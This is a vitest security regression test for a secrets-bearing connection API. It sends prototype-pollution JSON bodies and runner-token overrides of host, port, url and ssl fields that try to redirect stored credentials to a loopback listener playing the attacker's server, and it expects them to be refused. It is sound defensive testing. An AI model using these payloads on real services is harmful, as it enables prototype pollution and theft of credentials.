/**
 * Issue 11, findings 1 and 2, as an attacker with a runner token tries them: prototype keys in any
 * body, and overrides of every field that decides where a secret goes or how safely it travels, for
 * every task type. A listener on loopback plays the attacker's server; it must never hear a secret.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from '../support/app.js';
import { type Listener, startListener } from '../support/listener.js';
import {
  attackValue,
  type ServedType,
  sampleConnection,
  secretFields,
  targetFields,
} from '../support/type-samples.js';

const canary = (tag: string, field: string) => `CANARY-${tag}-${field}-7f3a9c`;
let t: TestApp;
let runner: string;
let editor: string;
let attacker: Listener;
let taskTypes: ServedType[];
const json = { 'content-type': 'application/json' };

beforeAll(async () => {
  t = await makeTestApp();
  runner = await t.token('runner');
  editor = await t.token('editor');
  attacker = await startListener({ speak: 'postgres' });
  taskTypes = (await t.api('GET', '/v1/types')).body.items.filter(
    (type: ServedType) => type.kind === 'task' && secretFields(type).length > 0,
  );
  for (const type of taskTypes) {
    const sample = sampleConnection(type, (f) => canary(type.id, f));
    const res = await t.api('POST', '/v1/connections', { tag: `c-${type.id}`, type: type.id, ...sample });
    if (res.status !== 201) throw new Error(`create ${type.id}: ${res.text}`);
  }
  // stores a bearer token but no url (pending): the shape of the original exploit
  await t.api('POST', '/v1/connections', {
    tag: 'nourl',
    type: 'http',
    secrets: { bearer_token: canary('nourl', 'bearer_token') },
  });
});
afterAll(async () => {
  await t.close();
  await attacker.close();
});

const heardSecret = () => /CANARY-/.test(attacker.received());

describe('finding 1: __proto__, constructor and prototype are refused in every body', () => {
  const at = () => `http://127.0.0.1:${attacker.port}/`;
  const bodies = () => [
    `{"inputs":{"__proto__":{"url":"${at()}"}}}`,
    `{"inputs":{"\\u005f\\u005fproto\\u005f\\u005f":{"url":"${at()}"}}}`,
    `{"inputs":{"constructor":{"prototype":{"url":"${at()}"}}}}`,
    `{"inputs":{"prototype":{"url":"${at()}"}}}`,
    `{"__proto__":{"inputs":{"url":"${at()}"}}}`,
    `{"inputs":{"headers":{"__proto__":{"x":"1"}},"params":{"constructor":"x"}}}`,
    `{"inputs":{"json":[{"a":{"b":{"__proto__":{"url":"${at()}"}}}}]}}`,
    `{"inputs":{"method":"GET","__proto__":null}}`,
  ];

  it('on connect and resolve of an http connection, with no request reaching the listener', async () => {
    for (const tag of ['nourl', 'c-http']) {
      for (const path of ['connect', 'resolve']) {
        for (const body of bodies()) {
          const res = await t.api('POST', `/v1/connections/${tag}/${path}`, body, {
            token: runner,
            headers: json,
          });
          expect(res.status, `${tag} ${path} ${body}`).toBe(400);
          expect(res.body.error.code).toBe('invalid_request');
        }
      }
    }
    expect(attacker.connections()).toBe(0);
    expect(heardSecret()).toBe(false);
  });

  it('on every other body: create, update, credentials, tokens', async () => {
    const cases: [string, string, string][] = [
      ['POST', '/v1/connections', '{"tag":"p1","type":"generic","value":{"__proto__":{"a":1}}}'],
      ['PATCH', '/v1/connections/c-http', '{"value":{"constructor":{"prototype":{"url":"x"}}}}'],
      ['PUT', '/v1/connections/c-http/credentials', '{"prototype":"x"}'],
      ['POST', '/v1/tokens', '{"name":"n","role":"viewer","__proto__":{"reveal":true}}'],
    ];
    for (const [method, url, body] of cases) {
      const res = await t.api(method, url, body, { headers: json });
      expect(res.status, `${method} ${url}`).toBe(400);
      expect(res.body.error.code).toBe('invalid_request');
    }
    expect((await t.api('GET', '/v1/connections/p1')).status).toBe(404);
  });
});

describe('finding 2: every target field of every type is guarded', () => {
  it('the transport fields are marked x-target in the served schemas', async () => {
    const expected: Record<string, string[]> = {
      git: ['repository_url', 'ssh_hostkey'],
      http: ['url'],
      postgres: ['host', 'port', 'ssl'],
      mysql: ['host', 'port', 'ssl'],
      oracle: ['host', 'port'],
      ssh: ['hostname', 'port', 'hostkey'],
    };
    for (const [id, fields] of Object.entries(expected)) {
      const type = taskTypes.find((x) => x.id === id)!;
      expect(targetFields(type), id).toEqual(expect.arrayContaining(fields));
    }
  });

  it('a runner overriding any target field (other, same or null value) gets 403 on resolve and connect', async () => {
    for (const type of taskTypes) {
      const tag = `c-${type.id}`;
      const stored = (await t.api('GET', `/v1/connections/${tag}`)).body.value;
      for (const field of targetFields(type)) {
        const prop = type.input_schema.properties[field]!;
        for (const value of [attackValue(field, prop, attacker.port), stored[field], null]) {
          if (value === undefined) continue;
          for (const path of ['resolve', 'connect']) {
            const res = await t.api(
              'POST',
              `/v1/connections/${tag}/${path}`,
              { inputs: { [field]: value } },
              { token: runner },
            );
            expect(res.status, `${type.id}.${field}=${JSON.stringify(value)} ${path}`).toBe(403);
            expect(res.body.error.code).toBe('override_forbidden');
            expect(res.body.error.details.fields).toContain(field);
          }
        }
      }
    }
    expect(attacker.connections()).toBe(0);
    expect(heardSecret()).toBe(false);
  });

  it('a postgres password moved to another port reaches it only when an editor moves it', async () => {
    const moved = { inputs: { port: attacker.port, ssl: false, statement: 'SELECT 1' } };
    const denied = await t.api('POST', '/v1/connections/c-postgres/connect', moved, { token: runner });
    expect(denied.status).toBe(403);
    expect(attacker.connections()).toBe(0);
    // the same move by an editor shows the listener is a real way out: the password arrives
    const allowed = await t.api('POST', '/v1/connections/c-postgres/connect', moved, { token: editor });
    expect(allowed.status).toBe(200);
    expect(attacker.received()).toContain(canary('postgres', 'password'));
  });
});
